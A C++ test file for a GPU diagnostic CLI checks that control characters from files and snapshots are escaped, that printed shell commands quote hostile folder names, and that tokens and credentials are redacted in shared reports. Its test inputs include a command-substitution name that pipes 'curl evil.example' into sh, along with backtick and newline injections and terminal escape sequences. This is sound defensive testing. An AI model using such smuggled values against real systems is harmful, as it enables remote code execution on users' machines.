// CLI tests of what gpudoctor prints and writes for sharing: control characters from image files
// and snapshots escaped, values in printed shell commands quoted, secrets and identities redacted
// by default (--no-redact keeps them), and --python checked before anything is read.

#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

#include "cli/run_tool.hpp"

namespace fs = std::filesystem;

namespace {

const std::string k_hosts = fs::path(GPUDOCTOR_SCENARIOS).parent_path() / "hosts";
const std::string k_host = k_hosts + "/h200-container";
const std::string k_root = k_host + "/root";
const std::string k_uuid = "GPU-c0ccbdb1-6bd7-cda5-9b46-ab4973d2062e";  // the recorded H200's

std::map<std::string, std::string> fake_env() {
  return {{"LD_LIBRARY_PATH", GPUDOCTOR_FAKES_DIR}, {"GPUDOCTOR_FAKE_DRIVER", k_host + "/driver.json"}};
}

/// A private copy of the H200 container's root, to add files to.
fs::path copy_root(const std::string& name) {
  fs::path dir = fs::temp_directory_path() / fmt::format("gpudoctor-share-{}-{}", getpid(), name);
  fs::remove_all(dir);
  fs::create_directories(dir);
  fs::copy(k_root, dir / "root", fs::copy_options::recursive | fs::copy_options::copy_symlinks);
  return dir / "root";
}

/// A venv as `python3 -m venv` makes it (Python 3.10), optionally holding the real metadata of
/// torch 2.3.1+cu121 (tests/hosts/venv-torch231-cu121).
void make_venv(const fs::path& prefix, bool with_torch) {
  fs::create_directories(prefix / "bin");
  fs::create_directories(prefix / "lib/python3.10/site-packages");
  std::ofstream(prefix / "pyvenv.cfg") << "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.10.12\n";
  if (with_torch) {
    fs::copy(k_hosts + "/venv-torch231-cu121/root/home/alice/venv/lib/python3.10/site-packages", prefix / "lib/python3.10/site-packages",
             fs::copy_options::recursive | fs::copy_options::overwrite_existing);
  }
}

/// Runs `shell -c "printf %s WORD"` and returns what the shell made of the word.
std::string shell_word(const char* shell, const std::string& word) {
  auto f = temp_file("word.sh", "printf %s " + word);
  std::string cmd = std::string(shell) + " " + f.string() + " > " + f.string() + ".out";
  int rc = std::system(cmd.c_str());
  std::ifstream in(f.string() + ".out", std::ios::binary);
  std::string out((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  fs::remove(f);
  fs::remove(f.string() + ".out");
  return rc == 0 ? out : "<" + std::string(shell) + " failed>";
}

bool has_raw_control(const std::string& s) {
  return std::any_of(s.begin(), s.end(), [](char c) {
    auto u = static_cast<unsigned char>(c);
    return (u < 0x20 && c != '\n') || u == 0x7f;
  });
}

TEST(CliShare, FolderNamesFromTheImageAreEscaped) {
  fs::path root = copy_root("esc");
  make_venv(root / "home/alice/env\x1b[2J\x1b]0;pwned\x07", false);
  // --verbose: the environment holds no framework, so only the full report lists it.
  auto term = run({"check", "--verbose", "--root", root.string(), "--driver", "none"});
  ASSERT_NE(term.code, 2) << term.err;
  EXPECT_FALSE(has_raw_control(term.out)) << term.out;
  EXPECT_NE(term.out.find("/home/alice/env\\x1b[2J\\x1b]0;pwned\\x07"), std::string::npos) << term.out;
  auto md = run({"check", "--markdown", "--no-redact", "--root", root.string(), "--driver", "none"});
  EXPECT_FALSE(has_raw_control(md.out)) << md.out;
  EXPECT_NE(md.out.find("/home/alice/env\\\\x1b\\[2J\\\\x1b\\]0;pwned\\\\x07"), std::string::npos) << md.out;
  fs::remove_all(root.parent_path());
}

TEST(CliShare, SnapshotValuesAreEscapedThroughCheckFrom) {
  auto snap = run({"snapshot", "--no-redact", "--root", k_root, "--driver", "none"});
  ASSERT_EQ(snap.code, 0) << snap.err;
  auto j = nlohmann::json::parse(snap.out);
  // A snapshot from elsewhere: macOS (whose rule prints PRETTY_NAME) with a title-setting OSC, a
  // screen clear, CR, BEL and a C1 CSI in it.
  j["host"]["os"] = "macos";
  j["host"]["os_pretty"] =
      "macOS 14.5\x1b]0;pwned\x07\r\xc2\x9b"
      "2J";
  auto file = temp_file("esc-snap.json", j.dump());
  auto term = run({"check", "--from", file.string()});
  EXPECT_EQ(term.code, 1) << term.err;
  EXPECT_FALSE(has_raw_control(term.out)) << term.out;
  EXPECT_EQ(term.out.find("\xc2\x9b"), std::string::npos);
  EXPECT_NE(term.out.find("macOS 14.5\\x1b]0;pwned\\x07\\r\\u009b2J"), std::string::npos) << term.out;
  auto md = run({"check", "--markdown", "--from", file.string()});
  EXPECT_FALSE(has_raw_control(md.out)) << md.out;
  EXPECT_NE(md.out.find("macOS 14.5\\\\x1b\\]0;pwned\\\\x07\\\\r\\\\u009b2J"), std::string::npos) << md.out;
  fs::remove(file);
}

TEST(CliShare, PrintedShellCommandsCarryHostileVenvPathsLiterally) {
  for (const std::string name : {"venv$(curl -s evil.example|sh)", "my venv 'it''s' \"q\" `touch x` $HOME",
                                 "line\nbreak; touch x"}) {
    fs::path root = copy_root("quote");
    make_venv(root / "home/alice/ok", false);
    // A real ELF file stands in for the interpreter (gpudoctor checks that it is one; it never runs it).
    fs::copy_file("/proc/self/exe", root / "home/alice/ok/bin/python3");
    make_venv(root / "home/alice" / name, true);
    auto r = run({"check", "--json", "--root", root.string(), "--driver", "none", "--python", "/home/alice/ok/bin/python3"});
    ASSERT_EQ(r.code, 1) << name << r.err << r.out;
    auto j = nlohmann::json::parse(r.out);
    std::string fix;
    for (const auto* list : {&j["causes"], &j["warnings"]})
      for (const auto& c : *list)
        if (c["id"] == "wrong_python_environment") fix = c["fix"][0].get<std::string>();
    ASSERT_FALSE(fix.empty()) << r.out;
    EXPECT_EQ(fix.find('\n'), std::string::npos) << fix;  // one line, even for a name with a line break
    // A plain venv is activated with its bin/activate, never with conda.
    const std::string lead = "or activate it: source ";
    auto a = fix.find(lead);
    ASSERT_NE(a, std::string::npos) << fix;
    EXPECT_EQ(fix.find("conda activate"), std::string::npos) << fix;
    std::string activate = fix.substr(a + lead.size());
    EXPECT_EQ(shell_word("bash", activate), "/home/alice/" + name + "/bin/activate") << fix;
    if (name.find('\n') == std::string::npos) {
      EXPECT_EQ(shell_word("sh", activate), "/home/alice/" + name + "/bin/activate") << fix;  // POSIX sh too
    }
    // The terminal shows the same command.
    auto term = run({"check", "--root", root.string(), "--driver", "none", "--python", "/home/alice/ok/bin/python3"});
    EXPECT_NE(term.out.find(fix), std::string::npos) << term.out;
    fs::remove_all(root.parent_path());
  }
}

std::map<std::string, std::string> secret_env() {
  auto env = fake_env();
  env["PATH"] =
      "/opt/ghp_abcdefghijklmnopqrstuvwxyz0123456789/bin:/usr/local/cuda-12.1/bin:/opt/task-runner-with-a-long-name/bin:"
      "/home/linuxbrew/.linuxbrew/bin:/usr/bin:/bin";
  env["LD_LIBRARY_PATH"] += ":/home/alice/.local/lib";
  env["PYTHONPATH"] = "/srv/hf_abcdefghijklmnopqrstuvwxyzABCDEFGH/src";
  env["VIRTUAL_ENV"] = "/home/alice/venv";
  env["CONDA_CHANNELS"] = "https://conda.anaconda.org/t/ab-12345678-1234-1234-1234-123456789abc/mychannel";
  env["CONDA_CHANNEL_ALIAS"] = "https://alice:hunter2@conda.example.com";
  env["TF_VAR_db_pass"] = "tfvar-db-password";
  env["TF_VAR_gh_pat"] = "tfvar-gh-pat";
  env["TF_FORCE_GPU_ALLOW_GROWTH"] = "true";
  env["KUBERNETES_SERVICE_HOST"] = "10.96.0.1";
  env["CUDA_VISIBLE_DEVICES"] = k_uuid;
  return env;
}

TEST(CliShare, SnapshotIsRedactedByDefault) {
  auto r = run({"snapshot", "--root", k_root, "--driver", "host"}, secret_env());
  ASSERT_EQ(r.code, 0) << r.err;
  for (const char* secret : {"ghp_abcdefghij", "hf_abcdefghij", "ab-12345678-1234", "hunter2", "alice", "tfvar-",
                             "TF_VAR", "KUBERNETES_SERVICE_HOST", "10.96.0.1", "6bd7-cda5"})
    EXPECT_EQ(r.out.find(secret), std::string::npos) << secret;
  auto j = nlohmann::json::parse(r.out);
  EXPECT_EQ(j["redacted"], true);
  const auto& vars = j["env"]["vars"];
  EXPECT_EQ(vars["PATH"],
            "/opt/<redacted:github-token>/bin:/usr/local/cuda-12.1/bin:/opt/task-runner-with-a-long-name/bin:"
            "/home/linuxbrew/.linuxbrew/bin:/usr/bin:/bin");
  EXPECT_EQ(vars["PYTHONPATH"], "/srv/<redacted:huggingface-token>/src");
  EXPECT_EQ(vars["VIRTUAL_ENV"], "/home/<user>/venv");
  EXPECT_EQ(vars["CONDA_CHANNELS"], "https://conda.anaconda.org/t/<redacted:conda-token>/mychannel");
  EXPECT_EQ(vars["CONDA_CHANNEL_ALIAS"], "https://<redacted:credentials>@conda.example.com");
  EXPECT_EQ(vars["TF_FORCE_GPU_ALLOW_GROWTH"], "true");
  EXPECT_EQ(vars["CUDA_VISIBLE_DEVICES"], "GPU-c0ccbdb1…");
  EXPECT_NE(r.out.find("\"GPU-c0ccbdb1…\""), std::string::npos);  // NVML's UUID, shortened the same way
}

TEST(CliShare, NoRedactKeepsEverythingButTheAllowListStillHolds) {
  auto r = run({"snapshot", "--no-redact", "--root", k_root, "--driver", "host"}, secret_env());
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = nlohmann::json::parse(r.out);
  EXPECT_EQ(j["redacted"], false);
  EXPECT_EQ(j["env"]["vars"]["CONDA_CHANNEL_ALIAS"], "https://alice:hunter2@conda.example.com");
  EXPECT_NE(r.out.find(k_uuid), std::string::npos);
  for (const char* never : {"TF_VAR", "tfvar-", "KUBERNETES_SERVICE_HOST"}) EXPECT_EQ(r.out.find(never), std::string::npos) << never;
}

// What a redacted snapshot says diagnoses the same as the host itself: UUIDs shortened on both
// sides still select the same GPU, renamed folders stay equal to each other.
TEST(CliShare, RedactedSnapshotKeepsTheVerdict) {
  for (const std::string cvd : {k_uuid, std::string("GPU-c0ccbdb1-6bd7"), std::string("GPU-deadbeef-0000-0000-0000-000000000000"),
                                std::string("0"), std::string("")}) {
    auto env = secret_env();
    env["CUDA_VISIBLE_DEVICES"] = cvd;
    auto direct = run({"check", "--json", "--root", k_root, "--driver", "host"}, env);
    auto snap = run({"snapshot", "--root", k_root, "--driver", "host"}, env);
    ASSERT_EQ(snap.code, 0) << snap.err;
    ASSERT_EQ(nlohmann::json::parse(snap.out)["redacted"], true);
    auto file = temp_file("redacted.json", snap.out);
    auto from = run({"check", "--json", "--from", file.string()});
    fs::remove(file);
    ASSERT_EQ(from.code, direct.code) << cvd << from.out;
    auto a = nlohmann::json::parse(direct.out), b = nlohmann::json::parse(from.out);
    EXPECT_EQ(a["verdict"], b["verdict"]) << cvd;
    auto ids = [](const nlohmann::json& list) {
      std::vector<std::string> out;
      for (const auto& c : list) out.push_back(c["id"]);
      return out;
    };
    EXPECT_EQ(ids(a["causes"]), ids(b["causes"])) << cvd;
    EXPECT_EQ(ids(a["warnings"]), ids(b["warnings"])) << cvd;
    ASSERT_EQ(a["layers"].size(), b["layers"].size());
    for (size_t i = 0; i < a["layers"].size(); ++i) EXPECT_EQ(a["layers"][i]["status"], b["layers"][i]["status"]) << cvd << i;
    EXPECT_NE(b["source"].get<std::string>().find("(redacted)"), std::string::npos);
  }
}

TEST(CliShare, MarkdownIsRedactedByDefault) {
  fs::path root = copy_root("md");
  make_venv(root / "home/alice/venv", false);
  auto env = fake_env();
  env["CUDA_VISIBLE_DEVICES"] = "GPU-deadbeef-0000-0000-0000-000000000000";
  auto md = run({"check", "--markdown", "--root", root.string(), "--driver", "host"}, env);
  EXPECT_EQ(md.code, 1) << md.err;
  EXPECT_EQ(md.out.find("alice"), std::string::npos) << md.out;
  EXPECT_EQ(md.out.find("0000-0000"), std::string::npos) << md.out;
  EXPECT_NE(md.out.find("/home/\\<user\\>/venv"), std::string::npos) << md.out;
  EXPECT_NE(md.out.find("GPU-deadbeef…"), std::string::npos) << md.out;
  EXPECT_NE(md.out.find("--no-redact keeps them"), std::string::npos) << md.out;
  auto own = run({"check", "--markdown", "--no-redact", "--root", root.string(), "--driver", "host"}, env);
  EXPECT_NE(own.out.find("/home/alice/venv"), std::string::npos) << own.out;
  EXPECT_NE(own.out.find("GPU-deadbeef-0000-0000-0000-000000000000"), std::string::npos) << own.out;
  EXPECT_EQ(own.out.find("--no-redact keeps them"), std::string::npos);
  fs::remove_all(root.parent_path());
}

TEST(CliPython, WhatIsNotAnInterpreterIsBadInput) {
  fs::path root = copy_root("python");
  make_venv(root / "home/alice/venv", false);
  std::ofstream(root / "home/alice/venv/bin/python3") << "print('hello')\n";                             // a text file
  std::ofstream(root / "home/alice/venv/bin/python") << "#!/bin/sh\nexec /usr/bin/python3.10 \"$@\"\n";  // a wrapper
  struct Case {
    std::string python, says;
  };
  for (const Case& c : {Case{"/home/alice/venv/bin/missing", "No such file"}, Case{"/home/alice/venv", "is a folder"},
                        Case{"/home/alice/venv/bin/python3", "is not a Python interpreter"},
                        Case{"/etc/os-release", "is not a Python interpreter"}, Case{"bin/python3", "absolute path"}}) {
    auto r = run({"check", "--root", root.string(), "--driver", "none", "--python", c.python});
    EXPECT_EQ(r.code, 2) << c.python << r.out;
    EXPECT_NE(r.err.find(c.says), std::string::npos) << c.python << ": " << r.err;
    EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;  // one clear line
    EXPECT_TRUE(r.out.empty()) << r.out;
  }
  // A #! wrapper is an interpreter (pyenv's shims are such scripts), and is never run.
  auto ok = run({"check", "--json", "--root", root.string(), "--driver", "none", "--python", "/home/alice/venv/bin/python"});
  EXPECT_NE(ok.code, 2) << ok.err;
  // On this machine a relative path is relative to the working folder; a missing one is bad input too.
  auto host = run({"snapshot", "--driver", "none", "--python", "no-such-python-here"});
  EXPECT_EQ(host.code, 2) << host.err;
  EXPECT_NE(host.err.find("no-such-python-here"), std::string::npos) << host.err;
  fs::remove_all(root.parent_path());
}

}  // namespace

namespace {

// gpudoctor run's report files are made to be shared too: the program's command line (here with
// a token and a home folder in it) is redacted in the JSON, Markdown and HTML files alike.
TEST(CliShare, RunReportFilesAreRedacted) {
  const std::string token = "ghp_" + std::string(36, 'Z');
  fs::path dir = fs::temp_directory_path() / fmt::format("gpudoctor-share-{}-run", getpid());
  fs::create_directories(dir);
  for (bool redact : {true, false}) {
    std::vector<std::string> args = {"--driver", "none"};
    if (!redact) args.push_back("--no-redact");
    for (const char* a : {"run", "--json", "r.json", "--markdown", "r.md", "--html", "r.html", "--", "/bin/sh", "-c",
                          "exit 0", "sh"})
      args.emplace_back(a);
    for (auto& a : args)
      if (a.size() > 2 && a[0] == 'r' && a[1] == '.') a = (dir / a).string();
    args.push_back(token);
    args.push_back("/home/alice/data");
    auto r = run(args);
    ASSERT_EQ(r.code, 0) << r.err;
    for (const char* name : {"r.json", "r.md", "r.html"}) {
      std::ifstream in(dir / name, std::ios::binary);
      std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
      ASSERT_FALSE(text.empty()) << name;
      EXPECT_EQ(text.find(token) == std::string::npos, redact) << name;
      EXPECT_EQ(text.find("alice") == std::string::npos, redact) << name;
      if (redact) EXPECT_NE(text.find("redacted:github-token"), std::string::npos) << name;
    }
  }
  fs::remove_all(dir);
}

}  // namespace
